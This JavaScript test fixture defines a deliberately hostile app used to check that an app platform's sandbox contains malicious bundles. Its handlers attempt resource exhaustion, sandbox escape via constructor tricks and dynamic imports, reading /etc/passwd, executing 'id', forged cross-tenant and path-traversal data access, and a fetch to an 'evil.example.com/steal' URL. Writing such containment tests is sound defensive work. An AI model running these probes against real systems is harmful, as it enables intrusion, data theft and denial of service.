/**
 * A hostile app for the containment tests. It skips `defineApp` and speaks the host protocol raw,
 * so it can do anything a malicious bundle can: pass forged arguments, keep references, throw.
 */
const attacks = [
  'loop',
  'memory',
  'recursion',
  'never',
  'huge',
  'big-response',
  'escape',
  'require',
  'import',
  'steal',
  'people',
  'fetch',
  'stash',
  'use-stale',
  'cpu',
];

export const hostileManifest = {
  id: 'cn.test.hostile',
  version: '6.6.6',
  permissions: ['people:read:basic'],
  collections: { notices: { schema: { type: 'object' } } },
  routes: attacks.map((name) => ({ method: 'GET', path: `/${name}` })),
};

export const hostileSource = `
const ok = (value) => ({ ok: true, value: { status: 200, headers: {}, body: { type: 'json', value } } });
let stashed = null;
const handlers = {
  'GET /loop': () => { while (true) {} },
  'GET /memory': () => { const hoard = []; while (true) hoard.push(new Array(100000).fill(Math.random())); },
  'GET /recursion': () => { const f = (n) => f(n + 1) + 1; return f(0); },
  'GET /never': () => new Promise(() => {}),
  'GET /huge': () => 'x'.repeat(100 * 1024 * 1024),
  'GET /big-response': () => 'y'.repeat(6 * 1024 * 1024),
  'GET /cpu': async (inv, hostCall) => {
    // Short bursts between host calls: no single entry times out, but the CPU adds up.
    for (let i = 0; i < 100; i++) { const end = Date.now() + 300; while (Date.now() < end) {} await hostCall('settings.get', {}); }
    return 'done';
  },
  'GET /escape': async () => {
    const probe = (f) => { try { const v = f(); return v === undefined ? 'undefined' : typeof v === 'object' ? 'object' : String(v); } catch (e) { return 'blocked:' + (e && e.name); } };
    const probeAsync = async (f) => { try { await f(); return 'escaped'; } catch (e) { return 'blocked:' + (e && e.name); } };
    return {
      process: typeof process,
      require: typeof require,
      module: typeof module,
      globalProcess: typeof globalThis.process,
      functionProcess: probe(() => Function('return typeof process')()),
      constructorProcess: probe(() => (() => {}).constructor.constructor('return this.process')()),
      constructorRequire: probe(() => ({}).constructor.constructor('return require("fs")')()),
      asyncFunctionProcess: await probeAsync(async () => { const AF = (async () => {}).constructor; const p = await AF('return process')(); if (p === undefined) throw new Error('none'); }),
      importFs: await probeAsync(() => import('node:fs')),
      importChild: await probeAsync(() => import('child_process')),
      timers: typeof setTimeout + typeof setInterval + typeof queueMicrotask,
      fetch: typeof fetch,
      globals: Object.getOwnPropertyNames(globalThis).filter((n) => /cb|ivm|host|invoke|isolate/i.test(n)),
      invokeLeft: typeof globalThis.__cbInvoke,
    };
  },
  'GET /require': () => require('fs').readFileSync('/etc/passwd', 'utf8'),
  'GET /import': async () => (await import('node:child_process')).execSync('id').toString(),
  'GET /steal': async (inv, hostCall) => {
    const id = inv.request.query.id;
    const own = await hostCall('collections.get', { collection: 'notices', id });
    const forged = await hostCall('collections.get', { collection: 'notices', id, installationId: inv.request.query.other, tenantId: inv.request.query.tenant });
    const traversal = await hostCall('collections.get', { collection: '../notices', id });
    return { own, forged, traversal };
  },
  'GET /people': async (inv, hostCall) => hostCall('people.list', {}),
  'GET /fetch': async (inv, hostCall) => hostCall('http.fetch', { url: 'https://evil.example.com/steal?data=1' }),
  'GET /stash': async (inv, hostCall) => { stashed = hostCall; return 'kept'; },
  'GET /use-stale': async () => stashed('settings.get', {}),
};
export default {
  kind: 'campusbase.app',
  sdkApiVersion: '0.1.0',
  describe: () => ({ sdkApiVersion: '0.1.0', routes: Object.keys(handlers).sort(), events: [], jobs: [], hooks: [] }),
  async dispatch(invocation, hostCall) {
    const value = await handlers[invocation.route](invocation, hostCall);
    return ok(value);
  },
};
`;
